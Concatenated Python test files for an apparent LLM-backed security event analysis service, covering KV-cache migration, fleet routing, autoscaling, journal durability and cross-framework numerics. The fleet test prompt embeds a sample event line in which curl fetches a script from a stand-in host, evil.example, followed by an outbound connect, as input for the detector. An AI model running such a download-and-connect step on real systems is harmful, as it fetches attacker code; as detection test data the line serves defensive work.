  drive real membership with a fake clock.
"""
import json

import numpy as np
import pytest

from chronos_trn.config import (
    AutoscaleConfig,
    CacheConfig,
    EngineConfig,
    FleetConfig,
    ModelConfig,
    ServerConfig,
)
from chronos_trn.core.prefix_cache import PrefixCache
from chronos_trn.fleet import migrate
from chronos_trn.fleet.autoscale import Autoscaler
from chronos_trn.fleet.pool import ReplicaPool
from chronos_trn.fleet.router import REHOME_SCALE_IN, FleetRouter
from chronos_trn.utils.metrics import GLOBAL as METRICS

pytestmark = pytest.mark.migrate

PS = 8


def deltas(before: dict, *names) -> dict:
    after = METRICS.snapshot()
    return {n: after.get(n, 0.0) - before.get(n, 0.0) for n in names}


def _chunk(seed, shape=(2, PS, 2, 4), dtype=np.float32):
    rng = np.random.default_rng(seed)
    return rng.standard_normal(shape).astype(dtype)


def _payload(dtype="float32"):
    dt = migrate._np_dtype(dtype)
    chains = [
        {
            "key": "abc123",
            "prompt": "Event chain:\nEVENT1 exec curl",
            "token_ids": list(range(24)),
            "chunks": [(0, _chunk(0, dtype=dt), _chunk(1, dtype=dt)),
                       (1, _chunk(2, dtype=dt), _chunk(3, dtype=dt))],
        },
        # heuristic-replica shape: residency only, no KV
        {"key": "def456", "prompt": "Event chain:\nEVENT1 fork bash",
         "token_ids": [], "chunks": []},
    ]
    return migrate.encode_payload(PS, dtype, chains), chains


# ---------------------------------------------------------------------------
# wire format
# ---------------------------------------------------------------------------
def test_payload_roundtrip_float32():
    payload, chains = _payload()
    doc = migrate.decode_payload(payload)
    assert doc["version"] == migrate.VERSION
    assert doc["page_size"] == PS and doc["dtype"] == "float32"
    assert [c["key"] for c in doc["chains"]] == ["abc123", "def456"]
    got = doc["chains"][0]
    assert got["prompt"] == chains[0]["prompt"]
    assert got["token_ids"] == list(range(24))
    for (i, k, v), (j, gk, gv) in zip(chains[0]["chunks"], got["chunks"]):
        assert i == j
        np.testing.assert_array_equal(k, np.asarray(gk))
        np.testing.assert_array_equal(v, np.asarray(gv))
    # decoded rows are views over the payload, not copies
    assert not got["chunks"][0][1].flags.writeable
    assert doc["chains"][1]["chunks"] == []


def test_payload_roundtrip_bfloat16():
    ml_dtypes = pytest.importorskip("ml_dtypes")
    payload, chains = _payload("bfloat16")
    doc = migrate.decode_payload(payload)
    k = np.asarray(doc["chains"][0]["chunks"][0][1])
    assert k.dtype == np.dtype(ml_dtypes.bfloat16)
    np.testing.assert_array_equal(k, chains[0]["chunks"][0][1])


@pytest.mark.parametrize("mutate,msg", [
    (lambda p: b"NOTMIG\x01" + p[8:], "magic"),
    (lambda p: p[:20], "truncated"),
    (lambda p: p[:-3], "digest"),
    (lambda p: p[:60] + bytes([p[60] ^ 0xFF]) + p[61:], "digest"),
    (lambda p: p + b"trailing", "digest"),
])
def test_decode_rejects_corruption(mutate, msg):
    payload, _ = _payload()
    with pytest.raises(migrate.MigrationError, match=msg):
        migrate.decode_payload(mutate(payload))


def _forge(header: dict, body: bytes = b"") -> bytes:
    """Well-digested payload with an arbitrary header — exercises the
    post-digest verification layers (version, nbytes, span bounds)."""
    import hashlib

    hdr = json.dumps(header).encode()
    rest = len(hdr).to_bytes(4, "big") + hdr + body
    digest = hashlib.blake2b(rest, digest_size=32).digest()
    return migrate.MAGIC + digest + rest


def test_decode_rejects_bad_version_nbytes_and_spans():
    with pytest.raises(migrate.MigrationError, match="version"):
        migrate.decode_payload(_forge({"version": 99}))
    with pytest.raises(migrate.MigrationError, match="length"):
        migrate.decode_payload(_forge(
            {"version": 1, "nbytes": 4, "page_size": PS,
             "dtype": "float32", "chains": []}, body=b"12345678"))
    # span pointing past the body must be caught BEFORE frombuffer
    with pytest.raises(migrate.MigrationError, match="bounds"):
        migrate.decode_payload(_forge(
            {"version": 1, "nbytes": 8, "page_size": PS,
             "dtype": "float32",
             "chains": [{"key": "k", "chunks": [
                 {"index": 0, "shape": [4], "k": [0, 16], "v": [0, 16]},
             ]}]}, body=b"\x00" * 8))
    # span length inconsistent with declared shape x dtype
    with pytest.raises(migrate.MigrationError, match="shape"):
        migrate.decode_payload(_forge(
            {"version": 1, "nbytes": 8, "page_size": PS,
             "dtype": "float32",
             "chains": [{"key": "k", "chunks": [
                 {"index": 0, "shape": [4], "k": [0, 8], "v": [0, 8]},
             ]}]}, body=b"\x00" * 8))


def test_encode_rejects_kv_shape_mismatch():
    with pytest.raises(migrate.MigrationError, match="mismatch"):
        migrate.encode_payload(PS, "float32", [{
            "key": "k", "token_ids": [1],
            "chunks": [(0, np.zeros((2, PS)), np.zeros((3, PS)))],
        }])


def test_summarize_counts_and_flags_garbage():
    payload, _ = _payload()
    assert migrate.summarize(payload) == {
        "chains": 2, "chunks": 2, "nbytes": len(payload)}
    assert migrate.summarize(None)["chains"] == 0
    assert migrate.summarize(b"garbage")["error"] == "unverifiable"


# ---------------------------------------------------------------------------
# prefix-cache migration primitives
# ---------------------------------------------------------------------------
def test_pin_chain_survives_pressure_until_unpin():
    pc = PrefixCache(page_size=PS, capacity_pages=2, slot_major=True)
    base = list(range(40))  # 5 chunks
    pc.insert(1, base, 0, kv_chunks=[None] * 5)
    # pin while the inserting seq still holds refs (the export window),
    # THEN release the seq: its trim runs with every entry still pinned
    pin_id, matched = pc.pin_chain(base)
    assert pin_id < 0 and len(matched) == 5  # export includes the tail
    pc.release_seq(1)
    assert pc.resident_chunks(base) == 5
    pc.trim(None)  # pressure: capacity 2, but every entry is pinned
    assert pc.resident_chunks(base) == 5
    pin2, _ = pc.pin_chain(base)
    assert pin2 != pin_id  # concurrent exports never collide
    pc.unpin_chain(pin2)
    pc.unpin_chain(pin_id)  # destination acked: back to LRU life
    pc.trim(None)
    assert pc.resident_chunks(base) == 2
    pc.check_invariants()


def test_import_chunk_consecutive_chain_rule():
    pc = PrefixCache(page_size=PS, slot_major=True)
    base = list(range(32))  # 4 chunks
    assert not pc.import_chunk(base, 1)      # parent missing
    assert pc.import_chunk(base, 0)
    assert not pc.import_chunk(base, 0)      # dedup: already resident
    assert pc.import_chunk(base, 1)
    assert not pc.import_chunk(base, 3)      # gap (2 missing)
    assert not pc.import_chunk(base, 4)      # beyond cacheable_chunks
    assert pc.resident_chunks(base) == 2
    pc.check_invariants()


# ---------------------------------------------------------------------------
# engine roundtrip, both layouts, sanitized
# ---------------------------------------------------------------------------
MCFG = ModelConfig.tiny()
_PARAMS = None


def _params():
    global _PARAMS
    if _PARAMS is None:
        import jax
        from chronos_trn.core import model

        _PARAMS = model.init_params(MCFG, jax.random.PRNGKey(0))
    return _PARAMS


def _engine(layout):
    from chronos_trn.serving.engine import InferenceEngine

    ccfg = (CacheConfig(page_size=PS, num_pages=128, max_pages_per_seq=16)
            if layout == "paged"
            else CacheConfig.for_slots(4, page_size=PS, max_pages_per_seq=16))
    cfg = EngineConfig(max_batch_slots=4, prefill_buckets=(16, 32, 64),
                       fused_decode=False, prefix_cache=True,
                       prefix_cache_pages=64)
    return InferenceEngine(_params(), MCFG, ccfg, cfg)


def _populate(eng, ids, seq=1000):
    slot = eng.free_slot()
    eng.occupy(slot, seq)
    eng.prefill_seq(seq, ids)
    eng.release(seq)


@pytest.mark.parametrize("layout", ["paged", "slot"])
def test_engine_export_wire_import_roundtrip(layout, monkeypatch):
    monkeypatch.setenv("CHRONOS_SANITIZE", "1")
    ids = list(range(1, 41))  # 5 aligned chunks resident after prefill
    src = _engine(layout)
    _populate(src, ids)
    n_resident = src.prefix_cache.resident_chunks(ids)
    assert n_resident > 0
    pin_id, chunks = src.export_prefix(ids)
    assert pin_id is not None and len(chunks) == n_resident

    # the full wire trip: encode on the source, decode at the dest
    payload = migrate.encode_payload(
        PS, str(np.asarray(chunks[0][1]).dtype),
        [{"key": "k", "token_ids": ids, "chunks": chunks}],
    )
    doc = migrate.decode_payload(payload)

    dst = _engine(layout)
    before = METRICS.snapshot()
    imported = dst.import_prefix(ids, doc["chains"][0]["chunks"])
    assert imported == n_resident
    assert dst.prefix_cache.resident_chunks(ids) == n_resident
    d = deltas(before, "prefix_chunks_imported_total")
    assert d["prefix_chunks_imported_total"] == imported
    # a second import of the same payload is a clean no-op (dedup)
    assert dst.import_prefix(ids, doc["chains"][0]["chunks"]) == 0

    # destination ack: unpin; the source cache returns to LRU life
    src.release_pin(pin_id)
    src.prefix_cache.check_invariants()
    dst.prefix_cache.check_invariants()
    if layout == "paged":
        src.alloc.check_invariants()
        dst.alloc.check_invariants()

    # migrated chains hit warm at the new home: prefill reuses chunks
    before = METRICS.snapshot()
    _populate(dst, ids + [77, 78], seq=2000)
    d = deltas(before, "prefix_cache_hit_tokens")
    assert d["prefix_cache_hit_tokens"] > 0


@pytest.mark.parametrize("layout", ["paged", "slot"])
def test_corrupt_payload_degrades_to_cold_prefill(layout, monkeypatch):
    monkeypatch.setenv("CHRONOS_SANITIZE", "1")
    ids = list(range(1, 41))
    src = _engine(layout)
    _populate(src, ids)
    pin_id, chunks = src.export_prefix(ids)
    payload = bytearray(migrate.encode_payload(
        PS, str(np.asarray(chunks[0][1]).dtype),
        [{"key": "k", "token_ids": ids, "chunks": chunks}],
    ))
    payload[-1] ^= 0xFF  # torn transfer
    src.release_pin(pin_id)

    dst = _engine(layout)
    with pytest.raises(migrate.MigrationError):
        migrate.decode_payload(bytes(payload))
    # verification failed BEFORE any mutation: dst is untouched ...
    assert dst.prefix_cache.resident_chunks(ids) == 0
    dst.prefix_cache.check_invariants()
    # ... and the chain simply re-prefills cold, invariants intact
    _populate(dst, ids)
    assert dst.prefix_cache.resident_chunks(ids) > 0
    dst.prefix_cache.check_invariants()
    if layout == "paged":
        dst.alloc.check_invariants()


@pytest.mark.parametrize("layout", ["paged", "slot"])
def test_interrupted_transfer_partial_import_is_clean(layout, monkeypatch):
    monkeypatch.setenv("CHRONOS_SANITIZE", "1")
    ids = list(range(1, 41))
    src = _engine(layout)
    _populate(src, ids)
    pin_id, chunks = src.export_prefix(ids)
    dst = _engine(layout)
    # chunk 0 lost in transit: nothing past the gap may register
    assert dst.import_prefix(ids, chunks[1:]) == 0
    assert dst.prefix_cache.resident_chunks(ids) == 0
    # middle chunk lost: the consecutive head imports, the tail degrades
    got = dst.import_prefix(ids, chunks[:2] + chunks[3:])
    assert got == 2
    assert dst.prefix_cache.resident_chunks(ids) == 2
    dst.prefix_cache.check_invariants()
    src.release_pin(pin_id)
    src.prefix_cache.check_invariants()


# ---------------------------------------------------------------------------
# fleet: heuristic replicas over real HTTP
# ---------------------------------------------------------------------------
def _fcfg(**kw):
    defaults = dict(
        probe_interval_s=0.0,
        breaker_failure_threshold=2,
        breaker_open_duration_s=60.0,
        request_timeout_s=10.0,
        spill_queue_depth=8,
    )
    defaults.update(kw)
    return FleetConfig(**defaults)


def _generate(port, prompt):
    from chronos_trn.sensor.resilience import UrllibTransport

    return UrllibTransport().post_json(
        f"http://127.0.0.1:{port}/api/generate",
        {"model": "llama3", "prompt": prompt, "stream": False,
         "format": "json"},
        10.0,
    )


PROMPT = (
    "Analyze the following.\n"
    "Event chain:\n"
    "EVENT1 pid=4242 exec /usr/bin/curl http://evil.example/x.sh\n"
    "EVENT2 pid=4242 connect 203.0.113.9:443\n"
)


def test_server_cache_endpoints_roundtrip_heuristic():
    pool = ReplicaPool.heuristic(2).start()
    try:
        r0, r1 = pool.remote_backends(_fcfg())
        _generate(pool[0].port, PROMPT)  # ledger notes the chain at r0
        mig_id, payload = r0.export_chains()
        assert mig_id and migrate.summarize(payload)["chains"] >= 1
        res = r1.import_chains(payload)
        assert res["imported_chains"] >= 1
        # residency is advertised on the probe for the fleet directory
        assert r1.probe_ready()
        keys = {c["key"] for c in migrate.decode_payload(payload)["chains"]}
        assert keys <= set(r1.last_ready_info["chains"])
        # ack releases the export pins exactly once
        assert r0.release_export(mig_id) is True
        assert r0.release_export(mig_id) is False  # unknown now: 404
    finally:
        pool.stop()


def test_corrupt_wire_payload_rejected_with_400_and_metric():
    pool = ReplicaPool.heuristic(2).start()
    try:
        r0, r1 = pool.remote_backends(_fcfg())
        _generate(pool[0].port, PROMPT)
        mig_id, payload = r0.export_chains()
        bad = payload[:-1] + bytes([payload[-1] ^ 0xFF])
        before = METRICS.snapshot()
        with pytest.raises(Exception):
            r1.import_chains(bad)
        d = deltas(before, "migrate_import_rejected_total")
        assert d["migrate_import_rejected_total"] == 1
        r0.release_export(mig_id)
    finally:
        pool.stop()


def test_router_rehome_migrates_and_directory_prefers_new_home():
    fcfg = _fcfg()
    pool = ReplicaPool.heuristic(2).start()
    router = FleetRouter(
        pool.remote_backends(fcfg), fleet_cfg=fcfg,
        server_cfg=ServerConfig(host="127.0.0.1", port=0),
    ).start()
    try:
        _generate(router.port, PROMPT)
        router.probe_once()
        holders = {n for n, ks in router.status()["directory"].items() if ks}
        assert len(holders) == 1
        src = holders.pop()
        before = METRICS.snapshot()
        summary = router.rehome_backend(src, reason=REHOME_SCALE_IN)
        assert summary is not None and not summary["failed"]
        assert summary["migrated_chains"] >= 1
        assert summary["chains_rehomed"] >= 1
        dst = summary["destination"]
        assert dst != src
        # optimistic directory update: the new home already advertises
        key = next(iter(router.directory_view()))
        assert dst in router.directory_holders(key)
        d = deltas(before, "fleet_chain_rehomes_total",
                   "fleet_migrated_chains_total", "fleet_migrations_total")
        assert d["fleet_chain_rehomes_total"] >= 1
        assert d["fleet_migrated_chains_total"] >= 1
        assert d["fleet_migrations_total"] == 1
    finally:
        router.stop()
        pool.stop()


def test_router_rehome_failure_degrades_cold_never_loses_chains(monkeypatch):
    fcfg = _fcfg()
    pool = ReplicaPool.heuristic(2).start()
    router = FleetRouter(
        pool.remote_backends(fcfg), fleet_cfg=fcfg,
        server_cfg=ServerConfig(host="127.0.0.1", port=0),
    ).start()
    try:
        _generate(router.port, PROMPT)
        router.probe_once()
        src = next(n for n, ks in router.status()["directory"].items() if ks)
        dst_name = next(n for n in router.status()["backends"] if n != src)
        dst = router.backend(dst_name)
        monkeypatch.setattr(
            dst, "import_chains",
            lambda payload: (_ for _ in ()).throw(RuntimeError("torn")))
        before = METRICS.snapshot()
        summary = router.rehome_backend(src, reason=REHOME_SCALE_IN)
        assert summary["failed"] and summary["migrated_chains"] == 0
        # the chain is NOT lost: affinity is forgotten (cold re-home,
        # recorded under reason=migrate_failed rather than the request's)
        assert summary["chains_rehomed"] >= 1
        d = deltas(before, "fleet_chain_rehomes_total",
                   "fleet_migrations_total")
        assert d["fleet_chain_rehomes_total"] >= 1
        # the source must not be left pinned: draining but consistent —
        # a fresh request for the chain re-prefills cold at the sibling
        status, _, body = _generate(router.port, PROMPT)
        assert status == 200 and json.loads(body.decode())["done"] is True
    finally:
        router.stop()
        pool.stop()


# ---------------------------------------------------------------------------
# autoscaler: real membership, fake clock
# ---------------------------------------------------------------------------
class _Clock:
    def __init__(self):
        self.t = 0.0

    def __call__(self):
        return self.t


def _autoscale_fixture(n=2, **cfg_kw):
    fcfg = _fcfg()
    pool = ReplicaPool.heuristic(n).start()
    router = FleetRouter(
        pool.remote_backends(fcfg), fleet_cfg=fcfg,
        server_cfg=ServerConfig(host="127.0.0.1", port=0),
    ).start()
    clock = _Clock()
    cfg_kw.setdefault("min_replicas", 1)
    cfg_kw.setdefault("max_replicas", 3)
    cfg_kw.setdefault("sustain_ticks", 2)
    cfg_kw.setdefault("cooldown_s", 10.0)
    asc = Autoscaler(router, pool,
                     AutoscaleConfig(enabled=True, **cfg_kw), clock=clock)
    return router, pool, asc, clock


def test_autoscaler_scale_out_then_in_with_cooldown(monkeypatch):
    router, pool, asc, clock = _autoscale_fixture()
    try:
        router.probe_once()
        # sustained SLO burn: two ticks of firing -> scale-out
        monkeypatch.setattr(router.slo, "evaluate",
                            lambda: [{"firing": True}])
        before = METRICS.snapshot()
        assert asc.tick() is None  # one vote is not a trend
        assert asc.tick() == "out"
        assert len(pool) == 3 and len(router.status()["backends"]) == 3
        assert pool[-1].name == "r2"  # next_name fills the first hole
        # the new replica is live and routable immediately (AOT warm)
        assert _generate(router.port, PROMPT)[0] == 200
        # quiet fleet now, but cooldown gates the reversal ...
        monkeypatch.setattr(router.slo, "evaluate", lambda: [])
        clock.t = 5.0
        assert asc.tick() is None and asc.tick() is None
        # ... until the cooldown clock expires
        clock.t = 20.0
        assert asc.tick() == "in"
        assert len(pool) == 2 and len(router.status()["backends"]) == 2
        d = deltas(before, "fleet_autoscale_events_total")
        assert d["fleet_autoscale_events_total"] == 2
        assert asc.status()["events"] == 2
    finally:
        router.stop()
        pool.stop()


def test_autoscaler_never_retires_a_tiers_last_replica(monkeypatch):
    # tiered fleet (PR 16 cascade): r0 is the ONLY 8b and also the
    # emptiest-by-name replica — the pre-guard victim choice.  Retiring
    # it would silence escalation fleet-wide, so the controller must
    # pick a 1b instead, and once both tiers are down to one replica it
    # must hold capacity even though min_replicas would allow more.
    fcfg = _fcfg()
    pool = ReplicaPool.heuristic(3, tiers=["8b", "1b", "1b"]).start()
    router = FleetRouter(
        pool.remote_backends(fcfg), fleet_cfg=fcfg,
        server_cfg=ServerConfig(host="127.0.0.1", port=0),
    ).start()
    clock = _Clock()
    asc = Autoscaler(router, pool, AutoscaleConfig(
        enabled=True, min_replicas=1, max_replicas=4,
        sustain_ticks=1, cooldown_s=0.0), clock=clock)
    try:
        router.probe_once()
        monkeypatch.setattr(router.slo, "evaluate", lambda: [])
        assert asc.tick() == "in"
        tiers = sorted(r.tier for r in pool)
        assert tiers == ["1b", "8b"], tiers  # the 8b survived
        # both tiers at their last replica: no eligible victim
        clock.t = 100.0
        assert asc.tick() is None
        assert len(pool) == 2
    finally:
        router.stop()
        pool.stop()


def test_autoscaler_respects_bounds(monkeypatch):
    router, pool, asc, clock = _autoscale_fixture(
        n=2, min_replicas=2, max_replicas=2)
    try:
        monkeypatch.setattr(router.slo, "evaluate",
                            lambda: [{"firing": True}])
        assert asc.tick() is None and asc.tick() is None  # at max: no out
        monkeypatch.setattr(router.slo, "evaluate", lambda: [])
        clock.t = 100.0
        assert asc.tick() is None and asc.tick() is None  # at min: no in
        assert len(pool) == 2
    finally:
        router.stop()
        pool.stop()
