"""Journal durability primitive: wire-format corruption fixtures, segment
rotation/compaction, atomic snapshot helpers, and a real kill -9 drill.

Acceptance (ISSUE PR 17): the journal must survive every corruption
fixture — torn tail, flipped CRC byte, truncated header, empty segment,
replay-after-compaction — recovering all intact prior records and never
raising past open()/replay().
"""
import json
import os
import signal
import struct
import subprocess
import sys
import time
import zlib

import pytest

from chronos_trn.utils.journal import (
    MAGIC,
    Journal,
    atomic_write_json,
    load_json_snapshot,
)
from chronos_trn.utils.metrics import Metrics

_HDR = struct.Struct(">II")


def _records(n, start=0):
    return [{"kind": "spool", "chain_key": f"ck{i}", "seq": i}
            for i in range(start, start + n)]


def _journal(tmp_path, **kw):
    kw.setdefault("metrics", Metrics())
    return Journal(str(tmp_path / "j"), **kw)


def _only_segment(tmp_path):
    segs = sorted(p for p in (tmp_path / "j").iterdir()
                  if p.name.startswith("journal-"))
    assert len(segs) == 1
    return segs[0]


# ---------------------------------------------------------------------------
# happy path
# ---------------------------------------------------------------------------
def test_append_replay_round_trip(tmp_path):
    m = Metrics()
    with _journal(tmp_path, metrics=m) as j:
        for r in _records(5):
            j.append(r)
    with _journal(tmp_path, metrics=m) as j:
        assert j.replay() == _records(5)
    snap = m.snapshot()
    assert snap['wal_records_total{journal="wal"}'] == 5
    assert snap['wal_replayed_total{journal="wal"}'] == 5


def test_clean_reopen_appends_after_existing(tmp_path):
    with _journal(tmp_path) as j:
        j.append({"a": 1})
    with _journal(tmp_path) as j:
        j.append({"b": 2})
        assert j.replay() == [{"a": 1}, {"b": 2}]


def test_unsynced_append_still_replays_in_process(tmp_path):
    with _journal(tmp_path) as j:
        j.append({"kind": "verdicted", "chain_key": "ck0"}, sync=False)
        assert j.replay() == [{"kind": "verdicted", "chain_key": "ck0"}]


# ---------------------------------------------------------------------------
# corruption fixtures — each recovers intact prior records, never raises
# ---------------------------------------------------------------------------
def test_torn_tail_truncated_on_open(tmp_path):
    """A crash mid-append leaves a half-written record; the next open
    truncates it away and appends land cleanly after the survivors."""
    m = Metrics()
    with _journal(tmp_path, metrics=m) as j:
        for r in _records(3):
            j.append(r)
    seg = _only_segment(tmp_path)
    good_size = seg.stat().st_size
    payload = json.dumps(_records(1, start=99)[0]).encode()
    with open(seg, "ab") as fh:  # torn: header + half the payload
        fh.write(_HDR.pack(len(payload), zlib.crc32(payload)))
        fh.write(payload[: len(payload) // 2])
    with _journal(tmp_path, metrics=m) as j:
        assert j.replay() == _records(3)
        assert seg.stat().st_size == good_size  # tail surgically removed
        j.append({"after": "repair"})
        assert j.replay() == _records(3) + [{"after": "repair"}]
    assert m.snapshot()['wal_truncated_tails_total{journal="wal"}'] == 1


def test_flipped_crc_byte_stops_at_corruption(tmp_path):
    with _journal(tmp_path) as j:
        for r in _records(4):
            j.append(r)
    seg = _only_segment(tmp_path)
    data = bytearray(seg.read_bytes())
    # flip one payload byte inside the THIRD record: records 0-1 must
    # survive, 2 fails its CRC, 3 is after the corruption -> untrusted
    off = len(MAGIC)
    for _ in range(2):
        length, _crc = _HDR.unpack(data[off:off + _HDR.size])
        off += _HDR.size + length
    data[off + _HDR.size + 2] ^= 0xFF
    seg.write_bytes(bytes(data))
    with _journal(tmp_path) as j:
        assert j.replay() == _records(2)


def test_truncated_header_recovers_prior_records(tmp_path):
    with _journal(tmp_path) as j:
        for r in _records(2):
            j.append(r)
    seg = _only_segment(tmp_path)
    with open(seg, "ab") as fh:
        fh.write(b"\x00\x00\x00")  # 3 of 8 header bytes
    with _journal(tmp_path) as j:
        assert j.replay() == _records(2)


def test_insane_length_field_recovers_prior_records(tmp_path):
    """A corrupt length field must not allocate gigabytes — the scan
    stops at the bound check, keeping everything before it."""
    with _journal(tmp_path) as j:
        j.append({"a": 1})
    seg = _only_segment(tmp_path)
    with open(seg, "ab") as fh:
        fh.write(_HDR.pack(0x7FFFFFFF, 0))
    with _journal(tmp_path) as j:
        assert j.replay() == [{"a": 1}]


def test_empty_segment_file(tmp_path):
    """A zero-byte segment (crash between create and magic write) is
    re-stamped and usable."""
    d = tmp_path / "j"
    d.mkdir()
    (d / "journal-00000000.wal").write_bytes(b"")
    j = Journal(str(d), metrics=Metrics())
    assert j.replay() == []
    j.append({"fresh": True})
    assert j.replay() == [{"fresh": True}]
    j.close()


def test_bad_magic_segment_truncated_to_empty(tmp_path):
    d = tmp_path / "j"
    d.mkdir()
    (d / "journal-00000000.wal").write_bytes(b"NOTJOURNALDATA" * 4)
    j = Journal(str(d), metrics=Metrics())
    assert j.replay() == []
    j.append({"ok": 1})
    assert j.replay() == [{"ok": 1}]
    j.close()


def test_valid_frame_invalid_json_stops_scan(tmp_path):
    """CRC-clean bytes that are not JSON (disk scribble with a matching
    checksum) stop the scan like any other corruption."""
    with _journal(tmp_path) as j:
        j.append({"a": 1})
    seg = _only_segment(tmp_path)
    junk = b"\xff\xfe not json"
    with open(seg, "ab") as fh:
        fh.write(_HDR.pack(len(junk), zlib.crc32(junk) & 0xFFFFFFFF))
        fh.write(junk)
    with _journal(tmp_path) as j:
        assert j.replay() == [{"a": 1}]


# ---------------------------------------------------------------------------
# rotation + compaction
# ---------------------------------------------------------------------------
def test_rotation_replays_across_segments(tmp_path):
    with _journal(tmp_path, segment_max_bytes=4096) as j:
        big = _records(40)
        for r in big:
            r["pad"] = "x" * 256
            j.append(r)
        names = os.listdir(tmp_path / "j")
        assert len([n for n in names if n.startswith("journal-")]) > 1
        assert j.replay() == big


def test_compaction_keeps_only_live_records(tmp_path):
    with _journal(tmp_path) as j:
        for r in _records(6):
            j.append(r)
        live = _records(2, start=4)
        j.compact(live)
        assert j.replay() == live
        j.append({"post": "compact"})
    with _journal(tmp_path) as j:  # survives reopen
        assert j.replay() == live + [{"post": "compact"}]
        segs = [n for n in os.listdir(tmp_path / "j")
                if n.startswith("journal-")]
        assert len(segs) == 1  # superseded segments unlinked


def test_compaction_crash_window_duplicates_not_loses(tmp_path):
    """Crash between os.replace and unlink leaves old + compacted
    segments; replay yields duplicates (consumers dedup by chain_key),
    never silently drops."""
    with _journal(tmp_path) as j:
        for r in _records(3):
            j.append(r)
    # simulate: copy segment 0 forward as the "compacted" segment the
    # crash published, leaving the original behind
    d = tmp_path / "j"
    (d / "journal-00000001.wal").write_bytes(
        (d / "journal-00000000.wal").read_bytes()
    )
    with _journal(tmp_path) as j:
        replayed = j.replay()
    assert replayed == _records(3) + _records(3)
    dedup = {r["chain_key"]: r for r in replayed}
    assert len(dedup) == 3


def test_size_bytes_tracks_segments(tmp_path):
    with _journal(tmp_path) as j:
        assert j.size_bytes() == len(MAGIC)
        j.append(_records(1)[0])
        assert j.size_bytes() > len(MAGIC)
        j.compact([])
        assert j.size_bytes() == len(MAGIC)


# ---------------------------------------------------------------------------
# atomic snapshot helpers
# ---------------------------------------------------------------------------
def test_atomic_write_json_round_trip(tmp_path):
    path = str(tmp_path / "snap.json")
    atomic_write_json(path, {"v": 1})
    assert load_json_snapshot(path) == {"v": 1}
    atomic_write_json(path, {"v": 2}, fsync=False)
    assert load_json_snapshot(path) == {"v": 2}
    assert not os.path.exists(path + ".tmp")  # published, not leaked


def test_load_json_snapshot_degrades_to_none(tmp_path):
    assert load_json_snapshot(str(tmp_path / "missing.json")) is None
    bad = tmp_path / "bad.json"
    bad.write_text("{torn")
    assert load_json_snapshot(str(bad)) is None
    notdict = tmp_path / "list.json"
    notdict.write_text("[1, 2]")
    assert load_json_snapshot(str(notdict)) is None


# ---------------------------------------------------------------------------
# kill -9 drill: a real process killed mid-append loses at most the
# unacked tail — every record it reported as synced must replay
# ---------------------------------------------------------------------------
_WRITER = """
import sys
from chronos_trn.utils.journal import Journal
from chronos_trn.utils.metrics import Metrics

j = Journal(sys.argv[1], metrics=Metrics())
i = 0
while True:
    j.append({"seq": i, "pad": "x" * 128})
    # acked only after the fsync'ed append returned
    sys.stdout.write(f"{i}\\n")
    sys.stdout.flush()
    i += 1
"""


@pytest.mark.slow
def test_kill9_mid_append_keeps_all_acked_records(tmp_path):
    wal_dir = str(tmp_path / "j")
    proc = subprocess.Popen(
        [sys.executable, "-c", _WRITER, wal_dir],
        stdout=subprocess.PIPE, text=True, cwd="/root/repo",
    )
    acked = -1
    deadline = time.monotonic() + 30.0
    try:
        while acked < 50 and time.monotonic() < deadline:
            line = proc.stdout.readline()
            if not line:
                break
            acked = int(line)
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=10)
    assert acked >= 50, "writer never reached 50 acked appends"
    j = Journal(wal_dir, metrics=Metrics())
    seqs = [r["seq"] for r in j.replay()]
    j.close()
    # fsync-before-ack: every acked record survives; the kill may have
    # torn one unacked trailing record, which repair drops silently
    assert seqs[: acked + 1] == list(range(acked + 1))
    assert len(seqs) <= acked + 2
