"""Cross-framework numerics validation (VERDICT r4 #6).

The jax model's full-sequence logits must match an independent PyTorch
implementation of the HF Llama-3 conventions (tests/torch_oracle.py) —
a different framework and numeric stack than both the jax model and the
numpy oracle (tests/reference_llama.py).  Covers base RoPE, the
Llama-3.1 NTK scaling path, GQA grouping, tied and untied heads.
Skipped when torch is absent (it is baked into this image)."""
import numpy as np
import pytest

torch = pytest.importorskip("torch")

import jax  # noqa: E402
import jax.numpy as jnp  # noqa: E402

from chronos_trn.config import ModelConfig, RopeScalingConfig  # noqa: E402
from chronos_trn.core import model  # noqa: E402

from tests import torch_oracle  # noqa: E402


def _compare(cfg, seed=0, T=12):
    params = model.init_params(cfg, jax.random.PRNGKey(seed), dtype=jnp.float32)
    rng = np.random.default_rng(seed)
    ids = rng.integers(0, cfg.vocab_size, T)
    ours = np.asarray(
        jax.jit(model.forward_train, static_argnums=(1,))(
            params, cfg, jnp.asarray(ids, jnp.int32)[None]
        )
    )[0]
    host = jax.tree.map(np.asarray, params)
    theirs = torch_oracle.forward_logits(host, cfg, ids)
    np.testing.assert_allclose(ours, theirs, rtol=2e-4, atol=2e-4)


def test_matches_torch_hf_conventions_base():
    _compare(ModelConfig.tiny())


def test_matches_torch_hf_conventions_rope_scaled():
    """Llama-3.1 NTK-by-parts frequency rescaling (the 8B-instruct
    checkpoint config) — wavelength-band math validated cross-framework."""
    cfg = ModelConfig.tiny(rope_scaling=RopeScalingConfig())
    _compare(cfg, seed=1, T=16)


def test_matches_torch_hf_conventions_tied_gqa():
    """Tied embeddings (1B tier) + a 4:1 GQA group."""
    cfg = ModelConfig.tiny(
        n_heads=4, n_kv_heads=1, tie_embeddings=True, name="tiny-tied"
    )
    _compare(cfg, seed=2, T=9)
