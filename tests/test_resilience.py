"""Resilience layer: retry/backoff + failure classification, circuit
breaker, chain spool + drain, fault-injection harness, server admission
control (429/503 + Retry-After), /healthz liveness-vs-readiness split,
deadline expiry at scheduler admission, and both HTTP transports against
a wire-level faulty brain.

Acceptance (ISSUE): a simulated brain outage must lose ZERO kill chains
— everything spooled during the outage produces a genuine verdict after
recovery, with breaker transitions and retry/spool/429 counters visible
in /metrics output.
"""
import json
import time

import jax  # noqa: F401  (conftest pins the CPU platform before use)
import pytest

from chronos_trn.config import (
    CacheConfig,
    EngineConfig,
    ModelConfig,
    SensorConfig,
    ServerConfig,
)
from chronos_trn.sensor import resilience
from chronos_trn.sensor.client import AnalysisClient, KillChainMonitor
from chronos_trn.sensor.events import EXEC, OPEN, Event
from chronos_trn.sensor.resilience import (
    FAIL_BREAKER,
    FAIL_HTTP,
    FAIL_MALFORMED,
    FAIL_OVERLOAD,
    FAIL_SERVER,
    FAIL_TRANSPORT,
    ChainSpool,
    CircuitBreaker,
    RequestsTransport,
    TransportError,
    UrllibTransport,
    default_transport,
)
from chronos_trn.serving.server import ChronosServer
from chronos_trn.testing.faults import (
    CONNECT_REFUSED,
